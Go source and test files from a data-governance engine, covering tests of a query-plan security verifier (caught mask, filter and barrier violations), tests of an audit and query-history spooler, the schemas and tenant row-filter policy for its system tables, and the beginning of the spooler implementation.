	if !strings.Contains(v.Detail, "amount") {
		t.Errorf("violation should name the masked column, got %q", v.Detail)
	}
}

func TestMaskAltered(t *testing.T) {
	analyzed := userQuery(governedSales())
	broken := plan.Transform(analyzed, func(x plan.Node) plan.Node {
		p, ok := x.(*plan.Project)
		if !ok || len(p.Exprs) != 4 {
			return x
		}
		exprs := append([]plan.Expr{}, p.Exprs...)
		// Swap the mask's group: widens who sees raw values.
		exprs[0] = plan.As(&plan.Case{
			Whens: []plan.WhenClause{{
				Cond: &plan.GroupMember{Group: "everyone"},
				Then: ref(0, "amount", types.KindFloat64),
			}},
			Else:       plan.Lit(types.Float64(0)),
			ResultKind: types.KindFloat64,
		}, "amount")
		return &plan.Project{Exprs: exprs, Child: p.Child, OutSchema: p.OutSchema}
	})
	mustViolate(t, Verify(analyzed, broken), InvColumnMask)
}

func TestFilterPushedPastMask(t *testing.T) {
	analyzed := userQuery(governedSales())
	// A user predicate over the masked column smuggled below the mask
	// projection — the classic filter-past-mask leak (it observes raw
	// amounts via side channel even though output stays masked).
	broken := plan.Transform(analyzed, func(x plan.Node) plan.Node {
		if f, ok := x.(*plan.Filter); ok {
			leak := &plan.Binary{Op: plan.OpGt,
				L: ref(0, "amount", types.KindFloat64), R: plan.Lit(types.Float64(5000)),
				ResultKind: types.KindBool}
			return &plan.Filter{
				Cond:  &plan.Binary{Op: plan.OpAnd, L: f.Cond, R: leak, ResultKind: types.KindBool},
				Child: f.Child,
			}
		}
		return x
	})
	v := mustViolate(t, Verify(analyzed, broken), InvColumnMask)
	if !strings.Contains(v.Detail, "below the mask projection") {
		t.Errorf("unexpected detail %q", v.Detail)
	}
}

func TestUDFMovedBelowBarrier(t *testing.T) {
	analyzed := userQuery(governedSales())
	udf := &plan.UDFCall{Name: "main.default.leak", Owner: "mallory",
		Args: []plan.Expr{ref(3, "region", types.KindString)}, ResultKind: types.KindBool}
	broken := plan.Transform(analyzed, func(x plan.Node) plan.Node {
		if f, ok := x.(*plan.Filter); ok {
			return &plan.Filter{
				Cond:  &plan.Binary{Op: plan.OpAnd, L: f.Cond, R: udf, ResultKind: types.KindBool},
				Child: f.Child,
			}
		}
		return x
	})
	v := mustViolate(t, Verify(analyzed, broken), InvTrustDomain)
	if !strings.Contains(v.Detail, "mallory") {
		t.Errorf("violation should name the foreign trust domain, got %q", v.Detail)
	}
}

func TestBarrierRemoved(t *testing.T) {
	analyzed := userQuery(governedSales())
	broken := plan.Transform(analyzed, func(x plan.Node) plan.Node {
		if sv, ok := x.(*plan.SecureView); ok {
			return sv.Child
		}
		return x
	})
	r := Verify(analyzed, broken)
	mustViolate(t, r, InvBarrier)
}

func TestGovernedScanEscapesBarrier(t *testing.T) {
	analyzed := userQuery(governedSales())
	// Barrier survives but a second, unprotected scan of the governed table
	// is introduced alongside it (e.g. by a broken dedup/cache rule).
	optimized := &plan.Union{L: analyzed, R: salesScan()}
	v := mustViolate(t, Verify(analyzed, optimized), InvBarrier)
	if !strings.Contains(v.Detail, "escaped") {
		t.Errorf("unexpected detail %q", v.Detail)
	}
}

func TestPruneDroppedPolicyColumn(t *testing.T) {
	analyzed := userQuery(governedSales())
	// Simulate a broken prune: scan narrowed to [amount, date] without
	// remapping the filter's region#3 reference.
	broken := plan.Transform(analyzed, func(x plan.Node) plan.Node {
		if sc, ok := x.(*plan.Scan); ok {
			cp := *sc
			cp.ProjectedCols = []int{0, 1}
			return &cp
		}
		return x
	})
	r := Verify(analyzed, broken)
	mustViolate(t, r, InvPolicyCols)
	named := false
	for _, v := range r.Violations {
		if v.Invariant == InvPolicyCols && strings.Contains(v.Detail, "region") {
			named = true
		}
	}
	if !named {
		t.Errorf("no violation names the dropped filter column: %v", r.Violations)
	}
}

func TestPruneMisboundPolicyColumn(t *testing.T) {
	analyzed := userQuery(governedSales())
	// Ordinal remapped to the wrong surviving column (name mismatch).
	broken := plan.Transform(analyzed, func(x plan.Node) plan.Node {
		if f, ok := x.(*plan.Filter); ok {
			return &plan.Filter{
				Cond: &plan.Binary{Op: plan.OpEq,
					L: ref(1, "region", types.KindString), R: plan.Lit(types.String("US")),
					ResultKind: types.KindBool},
				Child: f.Child,
			}
		}
		return x
	})
	mustViolate(t, Verify(analyzed, broken), InvPolicyCols)
}

func remoteSales() *plan.RemoteScan {
	return &plan.RemoteScan{Relation: "main.default.sales", OutSchema: salesSchema(), PushedLimit: -1}
}

func TestRemoteScanCleanPushdown(t *testing.T) {
	analyzed := &plan.Filter{
		Cond:  &plan.Binary{Op: plan.OpEq, L: plan.Col("region"), R: plan.Lit(types.String("US")), ResultKind: types.KindBool},
		Child: remoteSales(),
	}
	rs := remoteSales()
	rs.PushedFilters = []plan.Expr{
		&plan.Binary{Op: plan.OpEq, L: plan.Col("region"), R: plan.Lit(types.String("US")), ResultKind: types.KindBool},
	}
	r := Verify(analyzed, rs)
	mustClean(t, r)
	if r.RemoteScans != 1 {
		t.Errorf("RemoteScans = %d, want 1", r.RemoteScans)
	}
}

func TestRemoteScanRejectsUDF(t *testing.T) {
	analyzed := remoteSales()
	rs := remoteSales()
	rs.PushedFilters = []plan.Expr{
		&plan.UDFCall{Name: "main.default.leak", Owner: "mallory",
			Args: []plan.Expr{plan.Col("amount")}, ResultKind: types.KindBool},
	}
	v := mustViolate(t, Verify(analyzed, rs), InvRemotePush)
	if !strings.Contains(v.Detail, "mallory") {
		t.Errorf("violation should name the UDF owner, got %q", v.Detail)
	}
}

func TestRemoteScanRejectsOrdinalRefs(t *testing.T) {
	analyzed := remoteSales()
	rs := remoteSales()
	// BoundRefs must never ship: the remote side resolves by name.
	rs.PushedFilters = []plan.Expr{
		&plan.Binary{Op: plan.OpEq,
			L: ref(3, "region", types.KindString), R: plan.Lit(types.String("US")),
			ResultKind: types.KindBool},
	}
	mustViolate(t, Verify(analyzed, rs), InvRemotePush)
}

func TestFingerprintStableAndDistinct(t *testing.T) {
	a := userQuery(governedSales())
	if Fingerprint(a) != Fingerprint(userQuery(governedSales())) {
		t.Error("fingerprint not deterministic for identical plans")
	}
	if Fingerprint(a) == Fingerprint(salesScan()) {
		t.Error("distinct plans share a fingerprint")
	}
}

func TestExplainVerifiedAnnotations(t *testing.T) {
	analyzed := userQuery(governedSales())
	optimized := optimizer.Optimize(analyzed, optimizer.DefaultOptions())
	r := Verify(analyzed, optimized)
	mustClean(t, r)
	out := ExplainVerified(optimized, r)
	if !strings.Contains(out, "-- verified: ") {
		t.Fatalf("no verification annotations:\n%s", out)
	}
	if !strings.Contains(out, string(InvRowFilter)) || !strings.Contains(out, string(InvColumnMask)) {
		t.Errorf("annotations missing invariants:\n%s", out)
	}
	if !strings.Contains(out, r.Fingerprint) {
		t.Errorf("header missing fingerprint:\n%s", out)
	}
	// SecureView interiors stay redacted: the policy filter must not leak.
	if strings.Contains(out, "US") {
		t.Errorf("explain leaks policy predicate:\n%s", out)
	}
}

func TestViolationErrorMessage(t *testing.T) {
	err := (&Report{
		Fingerprint: "f",
		Violations: []Violation{
			{Invariant: InvRowFilter, Securable: "t", Detail: "gone"},
			{Invariant: InvColumnMask, Securable: "t", Detail: "altered"},
		},
	}).Err()
	if err == nil || !strings.Contains(err.Error(), "row-filter-dominance") ||
		!strings.Contains(err.Error(), "1 more") {
		t.Fatalf("err = %v", err)
	}
}
