package systemtables

import (
	"errors"
	"strings"
	"sync"
	"testing"
	"time"

	"lakeguard/internal/audit"
	"lakeguard/internal/catalog"
	"lakeguard/internal/storage"
	"lakeguard/internal/telemetry"
)

type env struct {
	store *storage.Store
	cat   *catalog.Catalog
	log   *audit.Log
	reg   *telemetry.Registry
	now   time.Time
	mu    sync.Mutex
}

func (e *env) clock() time.Time {
	e.mu.Lock()
	defer e.mu.Unlock()
	return e.now
}

func (e *env) advance(d time.Duration) {
	e.mu.Lock()
	e.now = e.now.Add(d)
	e.mu.Unlock()
}

func newEnv(t *testing.T) *env {
	t.Helper()
	e := &env{
		store: storage.NewStore(),
		log:   audit.NewLog(),
		reg:   telemetry.NewRegistry(),
		now:   time.Date(2026, 2, 1, 12, 0, 0, 0, time.UTC),
	}
	e.log.SetClock(e.clock)
	e.cat = catalog.New(e.store, e.log)
	return e
}

func newSpooler(t *testing.T, e *env, cfg Config) *Spooler {
	t.Helper()
	cfg.Catalog = e.cat
	cfg.Audit = e.log
	cfg.Metrics = e.reg
	cfg.Clock = e.clock
	s, err := New(cfg)
	if err != nil {
		t.Fatal(err)
	}
	return s
}

func count(t *testing.T, e *env, parts []string) int64 {
	t.Helper()
	n, err := e.cat.SystemTableCount(parts)
	if err != nil {
		t.Fatal(err)
	}
	return n
}

func TestSpoolerDrainsAuditAndQueries(t *testing.T) {
	e := newEnv(t)
	s := newSpooler(t, e, Config{})
	// The catalog itself generated ENSURE SYSTEM TABLE audit events during
	// Bootstrap; they spool too.
	baseline := e.log.Seq()
	if baseline == 0 {
		t.Fatal("bootstrap produced no audit events")
	}
	e.log.Record(audit.Event{User: "alice@corp.com", Action: "SELECT", Securable: "main.default.t", Decision: audit.DecisionAllow})
	e.log.Record(audit.Event{User: "bob@corp.com", Action: "SELECT", Securable: "main.default.t", Decision: audit.DecisionDeny, Reason: "no grant"})
	s.RecordQuery(QueryRecord{Time: e.clock(), Tenant: "alice@corp.com", SQLText: "SELECT 1", Status: "OK", RowsOut: 1})
	s.RecordQuery(QueryRecord{Time: e.clock(), Tenant: "bob@corp.com", SQLText: "SELECT 2", Status: "ERROR", Error: "boom"})
	if err := s.Flush(); err != nil {
		t.Fatal(err)
	}
	if got := count(t, e, AuditTableParts); got != baseline+2 {
		t.Fatalf("audit rows = %d, want %d", got, baseline+2)
	}
	if got := count(t, e, HistoryTableParts); got != 2 {
		t.Fatalf("history rows = %d, want 2", got)
	}
	// Two tenants in one window → two usage rows.
	if got := count(t, e, UsageTableParts); got != 2 {
		t.Fatalf("usage rows = %d, want 2", got)
	}
	// Flushing again with nothing new writes nothing.
	if err := s.Flush(); err != nil {
		t.Fatal(err)
	}
	if got := count(t, e, AuditTableParts); got != baseline+2 {
		t.Fatalf("idle flush appended audit rows: %d", got)
	}
	if lag := e.reg.Gauge("systemtables.lag").Value(); lag != 0 {
		t.Fatalf("lag after full drain = %d", lag)
	}
}

// TestSpoolerChaosNoSilentAuditLoss is the adversarial cursor test: storage
// faults at the flush site while the ring keeps wrapping. Whatever happens,
// every recorded event is either durably in the table or counted in the
// audit-lost metric and surfaced as an AUDIT_GAP row — never silently gone.
func TestSpoolerChaosNoSilentAuditLoss(t *testing.T) {
	e := newEnv(t)
	s := newSpooler(t, e, Config{})
	if err := s.Flush(); err != nil { // drain bootstrap events first
		t.Fatal(err)
	}
	spooledBefore := count(t, e, AuditTableParts)
	e.log.SetCapacity(8)

	// Storage down for the audit table: flushes fail, the cursor must not
	// advance past events that never landed.
	var faults int
	e.store.SetFault(func(op, path string) error {
		if op == "put" && strings.Contains(path, "tables/system/audit/") {
			faults++
			return errors.New("injected: storage unavailable")
		}
		return nil
	})
	const recorded = 30
	for i := 0; i < recorded; i++ {
		e.log.Record(audit.Event{User: "u", Action: "SELECT", Decision: audit.DecisionAllow})
		if i%5 == 4 {
			if err := s.Flush(); err == nil {
				t.Fatal("flush succeeded while storage is down")
			}
		}
	}
	if faults == 0 {
		t.Fatal("fault hook never fired")
	}
	e.store.SetFault(nil)
	if err := s.Flush(); err != nil {
		t.Fatal(err)
	}

	lost := e.reg.Counter("systemtables.audit_lost").Value()
	if lost == 0 {
		t.Fatal("ring never overflowed; shrink the capacity or record more")
	}
	rows := count(t, e, AuditTableParts) - spooledBefore
	// rows = survived events + exactly one AUDIT_GAP marker from the
	// single successful flush.
	survived := rows - 1
	if survived+lost != recorded {
		t.Fatalf("survived(%d) + lost(%d) != recorded(%d): an event vanished silently", survived, lost, recorded)
	}
	if errs := e.reg.Counter("systemtables.flush_errors").Value(); errs == 0 {
		t.Fatal("flush errors not counted")
	}
}

func TestSpoolerQueryQueueOverflowCountsDrops(t *testing.T) {
	e := newEnv(t)
	s := newSpooler(t, e, Config{QueueDepth: 2})
	for i := 0; i < 5; i++ {
		s.RecordQuery(QueryRecord{Time: e.clock(), Tenant: "t", Status: "OK"})
	}
	if got := e.reg.Counter("systemtables.dropped").Value(); got != 3 {
		t.Fatalf("dropped = %d, want 3", got)
	}
	if err := s.Flush(); err != nil {
		t.Fatal(err)
	}
	if got := count(t, e, HistoryTableParts); got != 2 {
		t.Fatalf("history rows = %d, want 2", got)
	}
}

func TestSpoolerHistoryRequeueOnFault(t *testing.T) {
	e := newEnv(t)
	s := newSpooler(t, e, Config{})
	e.store.SetFault(func(op, path string) error {
		if op == "put" && strings.Contains(path, "tables/system/query/") {
			return errors.New("injected")
		}
		return nil
	})
	s.RecordQuery(QueryRecord{Time: e.clock(), Tenant: "t", Status: "OK"})
	if err := s.Flush(); err == nil {
		t.Fatal("flush must fail while history storage is down")
	}
	e.store.SetFault(nil)
	if err := s.Flush(); err != nil {
		t.Fatal(err)
	}
	if got := count(t, e, HistoryTableParts); got != 1 {
		t.Fatalf("history rows = %d, want 1 (record lost across fault)", got)
	}
}

func TestSpoolerUsageWindows(t *testing.T) {
	e := newEnv(t)
	s := newSpooler(t, e, Config{UsageWindow: time.Minute})
	s.RecordQuery(QueryRecord{Time: e.clock(), Tenant: "a", Status: "OK", RowsOut: 5})
	s.RecordQuery(QueryRecord{Time: e.clock(), Tenant: "a", Status: "ERROR"})
	s.RecordShed("a")
	// Background flushes only commit closed windows: with the window still
	// open, usage stays pending (history commits immediately).
	if err := s.flush(false); err != nil {
		t.Fatal(err)
	}
	if got := count(t, e, UsageTableParts); got != 0 {
		t.Fatalf("open window committed: %d rows", got)
	}
	e.advance(2 * time.Minute)
	if err := s.flush(false); err != nil {
		t.Fatal(err)
	}
	if got := count(t, e, UsageTableParts); got != 1 {
		t.Fatalf("closed window rows = %d, want 1", got)
	}
	// Next window for the same tenant is a separate row.
	s.RecordQuery(QueryRecord{Time: e.clock(), Tenant: "a", Status: "OK"})
	if err := s.Flush(); err != nil {
		t.Fatal(err)
	}
	if got := count(t, e, UsageTableParts); got != 2 {
		t.Fatalf("usage rows = %d, want 2", got)
	}
}

func TestSpoolerRetention(t *testing.T) {
	e := newEnv(t)
	s := newSpooler(t, e, Config{Retention: 24 * time.Hour})
	s.RecordQuery(QueryRecord{Time: e.clock(), Tenant: "old", Status: "OK"})
	if err := s.Flush(); err != nil {
		t.Fatal(err)
	}
	if got := count(t, e, HistoryTableParts); got != 1 {
		t.Fatalf("history rows = %d", got)
	}
	e.advance(48 * time.Hour)
	s.RecordQuery(QueryRecord{Time: e.clock(), Tenant: "new", Status: "OK"})
	if err := s.Flush(); err != nil {
		t.Fatal(err)
	}
	removed, err := s.SweepRetention()
	if err != nil {
		t.Fatal(err)
	}
	if removed == 0 {
		t.Fatal("retention removed nothing")
	}
	if got := count(t, e, HistoryTableParts); got != 1 {
		t.Fatalf("history rows after retention = %d, want 1 (the recent one)", got)
	}
	if got := e.reg.Counter("systemtables.retention_files_removed").Value(); got == 0 {
		t.Fatal("retention metric not incremented")
	}
}

func TestSpoolerStartStop(t *testing.T) {
	e := newEnv(t)
	s := newSpooler(t, e, Config{FlushInterval: 10 * time.Millisecond})
	s.Start()
	s.RecordQuery(QueryRecord{Time: e.clock(), Tenant: "t", Status: "OK"})
	s.Stop() // final flush drains everything, including the open usage window
	if got := count(t, e, HistoryTableParts); got != 1 {
		t.Fatalf("history rows after stop = %d, want 1", got)
	}
	if got := count(t, e, UsageTableParts); got != 1 {
		t.Fatalf("usage rows after stop = %d, want 1", got)
	}
}

func TestSpoolerNilSafety(t *testing.T) {
	var s *Spooler
	s.RecordQuery(QueryRecord{})
	s.RecordShed("t")
}

// TestSpoolerMaintainCompactsSystemTables exercises the background
// maintenance pass: many tiny flush-written files get bin-packed, the work
// is counted, and an engine-attributed MAINTENANCE audit event is recorded.
func TestSpoolerMaintainCompactsSystemTables(t *testing.T) {
	e := newEnv(t)
	s := newSpooler(t, e, Config{})
	// Each flush appends one tiny file per touched table.
	for i := 0; i < 4; i++ {
		e.log.Record(audit.Event{User: "alice@corp.com", Action: "SELECT", Securable: "main.default.t", Decision: audit.DecisionAllow})
		if err := s.Flush(); err != nil {
			t.Fatal(err)
		}
		e.advance(time.Second)
	}
	before := count(t, e, AuditTableParts)
	if err := s.Maintain(); err != nil {
		t.Fatal(err)
	}
	if got := count(t, e, AuditTableParts); got != before {
		t.Fatalf("maintenance changed audit row count: %d -> %d", before, got)
	}
	if got := e.reg.Counter("systemtables.maintenance_files_compacted").Value(); got < 2 {
		t.Fatalf("maintenance_files_compacted = %d, want >= 2", got)
	}
	// The maintenance pass is itself audited, attributed to the engine.
	maint := func() []audit.Event {
		return e.log.Events(func(ev audit.Event) bool {
			return ev.Action == "MAINTENANCE" && strings.Contains(ev.Securable, "system.audit.events")
		})
	}
	evs := maint()
	if len(evs) == 0 {
		t.Fatal("no MAINTENANCE audit event recorded")
	}
	if evs[0].User != catalog.SystemUser {
		t.Errorf("MAINTENANCE attributed to %q, want engine user", evs[0].User)
	}
	// A second pass over the already-compacted tables is a no-op and does
	// not spam the audit log.
	if err := s.Maintain(); err != nil {
		t.Fatal(err)
	}
	if got := len(maint()); got != len(evs) {
		t.Errorf("no-op maintenance recorded %d extra MAINTENANCE event(s)", got-len(evs))
	}
}
