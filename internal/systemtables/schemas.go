// Package systemtables turns the engine's observability exhaust into
// governed lakehouse state: an asynchronous, bounded-backpressure spooler
// drains audit events, completed-query profiles, and per-tenant usage
// rollups into Delta tables under the reserved "system" catalog —
// system.audit.events, system.query.history, system.billing.usage — where
// they survive restarts, carry file statistics, and are queryable through
// the same FGAC-enforced SQL path as customer data. Built-in row filters
// scope every read to the caller's own tenant (admins see all), and a
// column mask redacts other tenants' SQL text; the sentinel's label-flow
// verifier checks those policies like any other table's.
package systemtables

import (
	"time"

	"lakeguard/internal/catalog"
	"lakeguard/internal/types"
)

// Fully qualified names of the system tables.
var (
	AuditTableParts   = []string{"system", "audit", "events"}
	HistoryTableParts = []string{"system", "query", "history"}
	UsageTableParts   = []string{"system", "billing", "usage"}
)

// TenantRowFilter is the built-in row filter on every system table: a
// caller sees only rows attributed to their own identity unless they are in
// the metastore-admins group. Because it references CURRENT_USER(), the
// analyzer labels the injected filter tenant-scoped and the sentinel's
// label-flow pass verifies no plan reaches execution without it.
const TenantRowFilter = "tenant = CURRENT_USER() OR IS_ACCOUNT_GROUP_MEMBER('" + catalog.AdminsGroup + "')"

// SQLTextMask redacts query text across tenant boundaries even for rows an
// admin-widened filter exposes: only the row's own tenant (or an admin)
// reads the statement as written.
const SQLTextMask = "CASE WHEN tenant = CURRENT_USER() OR IS_ACCOUNT_GROUP_MEMBER('" + catalog.AdminsGroup + "') THEN sql_text ELSE '<redacted>' END"

func auditSchema() *types.Schema {
	return types.NewSchema(
		types.Field{Name: "event_time", Kind: types.KindTimestamp, Nullable: true},
		types.Field{Name: "tenant", Kind: types.KindString, Nullable: true},
		types.Field{Name: "compute", Kind: types.KindString, Nullable: true},
		types.Field{Name: "session_id", Kind: types.KindString, Nullable: true},
		types.Field{Name: "action", Kind: types.KindString, Nullable: true},
		types.Field{Name: "securable", Kind: types.KindString, Nullable: true},
		types.Field{Name: "decision", Kind: types.KindString, Nullable: true},
		types.Field{Name: "reason", Kind: types.KindString, Nullable: true},
		types.Field{Name: "trace_id", Kind: types.KindString, Nullable: true},
	)
}

func historySchema() *types.Schema {
	return types.NewSchema(
		types.Field{Name: "end_time", Kind: types.KindTimestamp, Nullable: true},
		types.Field{Name: "tenant", Kind: types.KindString, Nullable: true},
		types.Field{Name: "session_id", Kind: types.KindString, Nullable: true},
		types.Field{Name: "trace_id", Kind: types.KindString, Nullable: true},
		types.Field{Name: "sql_text", Kind: types.KindString, Nullable: true},
		types.Field{Name: "status", Kind: types.KindString, Nullable: true},
		types.Field{Name: "error", Kind: types.KindString, Nullable: true},
		types.Field{Name: "queue_wait_ms", Kind: types.KindFloat64, Nullable: true},
		types.Field{Name: "analyze_ms", Kind: types.KindFloat64, Nullable: true},
		types.Field{Name: "optimize_ms", Kind: types.KindFloat64, Nullable: true},
		types.Field{Name: "verify_ms", Kind: types.KindFloat64, Nullable: true},
		types.Field{Name: "exec_ms", Kind: types.KindFloat64, Nullable: true},
		types.Field{Name: "total_ms", Kind: types.KindFloat64, Nullable: true},
		types.Field{Name: "rows_out", Kind: types.KindInt64, Nullable: true},
		types.Field{Name: "files_scanned", Kind: types.KindInt64, Nullable: true},
		types.Field{Name: "files_pruned", Kind: types.KindInt64, Nullable: true},
		types.Field{Name: "bytes_read", Kind: types.KindInt64, Nullable: true},
		types.Field{Name: "spill_bytes", Kind: types.KindInt64, Nullable: true},
	)
}

func usageSchema() *types.Schema {
	return types.NewSchema(
		types.Field{Name: "window_start", Kind: types.KindTimestamp, Nullable: true},
		types.Field{Name: "tenant", Kind: types.KindString, Nullable: true},
		types.Field{Name: "queries", Kind: types.KindInt64, Nullable: true},
		types.Field{Name: "errors", Kind: types.KindInt64, Nullable: true},
		types.Field{Name: "rows_out", Kind: types.KindInt64, Nullable: true},
		types.Field{Name: "bytes_get", Kind: types.KindInt64, Nullable: true},
		types.Field{Name: "sheds", Kind: types.KindInt64, Nullable: true},
		types.Field{Name: "queue_wait_ms", Kind: types.KindFloat64, Nullable: true},
	)
}

// specs declares the three system tables the spooler maintains.
func specs() []catalog.SystemTableSpec {
	return []catalog.SystemTableSpec{
		{
			Parts: AuditTableParts, Schema: auditSchema(),
			RowFilter: TenantRowFilter,
			Comment:   "every authorization decision and credential vend, durably spooled from the audit ring",
		},
		{
			Parts: HistoryTableParts, Schema: historySchema(),
			RowFilter: TenantRowFilter,
			ColMasks:  map[string]string{"sql_text": SQLTextMask},
			Comment:   "completed-query profiles: phase latencies, data-skipping outcomes, spill and bytes read",
		},
		{
			Parts: UsageTableParts, Schema: usageSchema(),
			RowFilter: TenantRowFilter,
			Comment:   "per-tenant usage rollups: queries, rows, bytes fetched, admission sheds per window",
		},
	}
}

// Bootstrap idempotently registers the system tables (creating or attaching
// to their Delta logs) on a catalog. Safe to call on every startup.
func Bootstrap(cat *catalog.Catalog) error {
	for _, spec := range specs() {
		if err := cat.EnsureSystemTable(spec); err != nil {
			return err
		}
	}
	return nil
}

// QueryRecord is one completed query's contribution to system.query.history
// and the usage rollup. Time is the query's end time.
type QueryRecord struct {
	Time      time.Time
	Tenant    string
	SessionID string
	TraceID   string
	SQLText   string
	Status    string // "OK" or "ERROR"
	Error     string

	QueueWaitNanos int64
	AnalyzeNanos   int64
	OptimizeNanos  int64
	VerifyNanos    int64
	ExecNanos      int64
	TotalNanos     int64

	RowsOut      int64
	FilesScanned int64
	FilesPruned  int64
	BytesRead    int64
	SpillBytes   int64
}

func nanosToMS(n int64) float64 { return float64(n) / 1e6 }

func (r QueryRecord) row() []types.Value {
	return []types.Value{
		types.Timestamp(r.Time.UnixMicro()),
		types.String(r.Tenant),
		types.String(r.SessionID),
		types.String(r.TraceID),
		types.String(r.SQLText),
		types.String(r.Status),
		types.String(r.Error),
		types.Float64(nanosToMS(r.QueueWaitNanos)),
		types.Float64(nanosToMS(r.AnalyzeNanos)),
		types.Float64(nanosToMS(r.OptimizeNanos)),
		types.Float64(nanosToMS(r.VerifyNanos)),
		types.Float64(nanosToMS(r.ExecNanos)),
		types.Float64(nanosToMS(r.TotalNanos)),
		types.Int64(r.RowsOut),
		types.Int64(r.FilesScanned),
		types.Int64(r.FilesPruned),
		types.Int64(r.BytesRead),
		types.Int64(r.SpillBytes),
	}
}
