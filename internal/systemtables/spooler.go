package systemtables

import (
	"fmt"
	"sync"
	"time"

	"lakeguard/internal/audit"
	"lakeguard/internal/catalog"
	"lakeguard/internal/telemetry"
	"lakeguard/internal/types"
)

// Config configures a Spooler.
type Config struct {
	// Catalog owns the system tables and the append path into them.
	Catalog *catalog.Catalog
	// Audit is the ring the spooler drains via its cursor API. Nil disables
	// audit spooling (query history and usage still work).
	Audit *audit.Log
	// Metrics receives the spooler's health instruments (nil-safe).
	Metrics *telemetry.Registry
	// FlushInterval is the background flush cadence (default 2s).
	FlushInterval time.Duration
	// MaxBatch caps rows per committed data file (default 4096).
	MaxBatch int
	// QueueDepth bounds the query-record queue; RecordQuery never blocks a
	// query — beyond this depth records are dropped and counted (default
	// 4096).
	QueueDepth int
	// Retention truncates system-table files wholly older than this age
	// (0 = keep forever).
	Retention time.Duration
	// UsageWindow is the billing rollup granularity (default 1m).
	UsageWindow time.Duration
	// Clock overrides the time source (tests).
	Clock func() time.Time
}

// usageAgg accumulates one tenant's activity inside one rollup window.
type usageAgg struct {
	queries, errors, rowsOut, bytesGet, sheds int64
	queueWaitNanos                            int64
}

// Spooler asynchronously drains observability exhaust into the system
// tables. All Record* methods are cheap and non-blocking: queries enqueue
// onto a bounded channel (overflow is dropped and counted, never stalls the
// query path), usage aggregates under a short critical section, and audit
// events stay in the ring until the flush loop consumes them through the
// cursor API — which detects, rather than silently skips, events the ring
// overwrote before they could be spooled.
type Spooler struct {
	cfg   Config
	cat   *catalog.Catalog
	audit *audit.Log
	clock func() time.Time

	queries chan QueryRecord

	mu     sync.Mutex
	usage  map[int64]map[string]*usageAgg // window-start micros -> tenant
	cursor int64                          // audit ring cursor; advanced only after a durable commit

	flushMu    sync.Mutex // serializes concurrent Flush calls
	flushTicks int

	stopOnce sync.Once
	stop     chan struct{}
	done     chan struct{}

	mSpooled     *telemetry.Counter
	mDropped     *telemetry.Counter
	mAuditLost   *telemetry.Counter
	mFlushErrors *telemetry.Counter
	mRetention   *telemetry.Counter
	mMaintained  *telemetry.Counter
	mFlushMS     *telemetry.Histogram
	mLag         *telemetry.Gauge
}

// retentionEveryTicks spaces retention sweeps: one per this many flush
// ticks, so truncation scans don't ride every flush.
const retentionEveryTicks = 15

// New creates a spooler and bootstraps the system tables on the catalog
// (idempotent: after a restart it attaches to the surviving Delta logs).
func New(cfg Config) (*Spooler, error) {
	if cfg.Catalog == nil {
		return nil, fmt.Errorf("systemtables: Config.Catalog is required")
	}
	if cfg.FlushInterval <= 0 {
		cfg.FlushInterval = 2 * time.Second
	}
	if cfg.MaxBatch <= 0 {
		cfg.MaxBatch = 4096
	}
	if cfg.QueueDepth <= 0 {
		cfg.QueueDepth = 4096
	}
	if cfg.UsageWindow <= 0 {
		cfg.UsageWindow = time.Minute
	}
	if cfg.Clock == nil {
		cfg.Clock = time.Now
	}
	if err := Bootstrap(cfg.Catalog); err != nil {
		return nil, err
	}
	s := &Spooler{
		cfg:     cfg,
		cat:     cfg.Catalog,
		audit:   cfg.Audit,
		clock:   cfg.Clock,
		queries: make(chan QueryRecord, cfg.QueueDepth),
		usage:   map[int64]map[string]*usageAgg{},
		stop:    make(chan struct{}),
		done:    make(chan struct{}),

		mSpooled:     cfg.Metrics.Counter("systemtables.spooled"),
		mDropped:     cfg.Metrics.Counter("systemtables.dropped"),
		mAuditLost:   cfg.Metrics.Counter("systemtables.audit_lost"),
		mFlushErrors: cfg.Metrics.Counter("systemtables.flush_errors"),
		mRetention:   cfg.Metrics.Counter("systemtables.retention_files_removed"),
		mMaintained:  cfg.Metrics.Counter("systemtables.maintenance_files_compacted"),
		mFlushMS:     cfg.Metrics.Histogram("systemtables.flush_ms", nil),
		mLag:         cfg.Metrics.Gauge("systemtables.lag"),
	}
	return s, nil
}

// Start launches the background flush loop. Stop flushes once more and
// waits for the loop to exit.
func (s *Spooler) Start() {
	go func() {
		defer close(s.done)
		t := time.NewTicker(s.cfg.FlushInterval)
		defer t.Stop()
		for {
			select {
			case <-s.stop:
				return
			case <-t.C:
				_ = s.flush(false)
				s.flushMu.Lock()
				s.flushTicks++
				maintain := s.flushTicks%retentionEveryTicks == 0
				s.flushMu.Unlock()
				if maintain {
					_, _ = s.SweepRetention()
					_ = s.Maintain()
				}
			}
		}
	}()
}

// Stop terminates the flush loop and performs a final flush (including the
// current usage window) so a clean shutdown spools everything it has seen.
func (s *Spooler) Stop() {
	s.stopOnce.Do(func() { close(s.stop) })
	<-s.done
	_ = s.flush(true)
}

// RecordQuery enqueues a completed query for spooling. Never blocks: when
// the queue is full the record is dropped and counted — observability must
// not become the engine's backpressure.
func (s *Spooler) RecordQuery(rec QueryRecord) {
	if s == nil {
		return
	}
	if rec.Time.IsZero() {
		rec.Time = s.clock()
	}
	select {
	case s.queries <- rec:
	default:
		s.mDropped.Inc()
	}
}

// RecordShed attributes one admission shed to a tenant's current usage
// window (sheds never produce a QueryRecord — they are refused before
// planning).
func (s *Spooler) RecordShed(tenant string) {
	if s == nil {
		return
	}
	s.mu.Lock()
	s.usageFor(s.clock(), tenant).sheds++
	s.mu.Unlock()
}

// usageFor returns the aggregate cell for (window(t), tenant). Caller holds
// s.mu.
func (s *Spooler) usageFor(t time.Time, tenant string) *usageAgg {
	w := t.Truncate(s.cfg.UsageWindow).UnixMicro()
	byTenant := s.usage[w]
	if byTenant == nil {
		byTenant = map[string]*usageAgg{}
		s.usage[w] = byTenant
	}
	a := byTenant[tenant]
	if a == nil {
		a = &usageAgg{}
		byTenant[tenant] = a
	}
	return a
}

// Flush synchronously drains everything pending — audit ring, query queue,
// and all usage windows including the current one. Tests and shutdown use
// it; the background loop flushes closed windows only.
func (s *Spooler) Flush() error { return s.flush(true) }

func (s *Spooler) flush(final bool) error {
	s.flushMu.Lock()
	defer s.flushMu.Unlock()
	start := time.Now()
	var firstErr error
	keep := func(err error) {
		if err != nil {
			s.mFlushErrors.Inc()
			if firstErr == nil {
				firstErr = err
			}
		}
	}
	keep(s.flushAudit())
	keep(s.flushQueries())
	keep(s.flushUsage(final))
	s.mFlushMS.Observe(float64(time.Since(start).Nanoseconds()) / 1e6)
